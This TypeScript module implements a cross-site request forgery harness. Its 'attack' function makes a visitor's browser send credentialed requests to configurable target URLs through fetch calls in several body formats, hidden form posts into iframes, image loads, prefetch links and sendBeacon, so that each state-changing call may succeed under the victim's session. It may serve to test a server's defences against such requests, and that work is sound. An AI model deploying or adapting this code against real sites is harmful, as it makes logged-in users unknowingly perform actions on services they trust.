/** One call that changes something. */
export interface Target {
  method: string;
  url: string;
}

/** Everything that a page can make a browser send to another site without being let in, at each of these calls. */
export interface Attack {
  targets: Target[];
  /** Fields that make most calls good ones. */
  fields: Record<string, unknown>;
  /** Also by forms and by elements, which load a document each. */
  withForms: boolean;
}

/**
 * Runs in the attacking page, and knows nothing from outside of itself. Says only when all is sent: a page is not told
 * what another site answers.
 */
export async function attack({ targets, fields, withForms }: Attack): Promise<void> {
  const json = JSON.stringify(fields);
  const always = { credentials: 'include', mode: 'no-cors' } as const;
  const patienceMs = 5_000;
  // The one call that takes a form: a photo of one dot.
  const upload = () => {
    const form = new FormData();
    const dot =
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    const bytes = Uint8Array.from(atob(dot), (letter) => letter.charCodeAt(0));
    form.set('taskId', String(fields['taskId']));
    form.set('photo', new File([bytes], 'dot.png', { type: 'image/png' }));
    return form;
  };
  const texts = Object.entries(fields).map(([name, value]): [string, string] => [name, String(value)]);

  const send = async (url: string, options: RequestInit) =>
    fetch(url, { ...always, ...options }).catch(() => undefined);
  const byScript = async ({ method, url }: Target) =>
    Promise.all([
      send(url, { method: 'POST', body: json, headers: { 'content-type': 'text/plain' } }),
      send(url, { method: 'POST', body: new URLSearchParams(texts) }),
      send(url, { method: 'POST', body: upload() }),
      send(url, { method: 'POST' }),
      // These ask for leave first.
      send(url, { mode: 'cors', method, body: json, headers: { 'content-type': 'application/json' } }),
      send(`${url}?input=${encodeURIComponent(json)}`, {}),
    ]);

  const loaded = async (element: HTMLElement, insert: () => void) =>
    new Promise<void>((resolve) => {
      element.addEventListener('load', () => resolve());
      element.addEventListener('error', () => resolve());
      insert();
      setTimeout(resolve, patienceMs);
    });
  const byForm = async ({ url }: Target, enctype: string) => {
    const frame = document.createElement('iframe');
    frame.name = `frame ${Math.random()}`;
    document.body.append(frame);
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: url, enctype, target: frame.name });
    for (const [name, value] of texts)
      form.append(Object.assign(document.createElement('input'), { name, value }));
    document.body.append(form);
    await loaded(frame, () => form.submit());
    frame.remove();
    form.remove();
  };
  const byElement = async ({ url }: Target) => {
    const image = document.createElement('img');
    const link = Object.assign(document.createElement('link'), {
      rel: 'prefetch',
      href: `${url}?prefetched`,
    });
    document.head.append(link);
    navigator.sendBeacon(url, json);
    await loaded(image, () => Object.assign(image, { src: url }));
  };

  for (const target of targets) {
    await byScript(target);
    if (!withForms) continue;
    const types = ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'];
    await Promise.all([byElement(target), ...types.map(async (type) => byForm(target, type))]);
  }
}
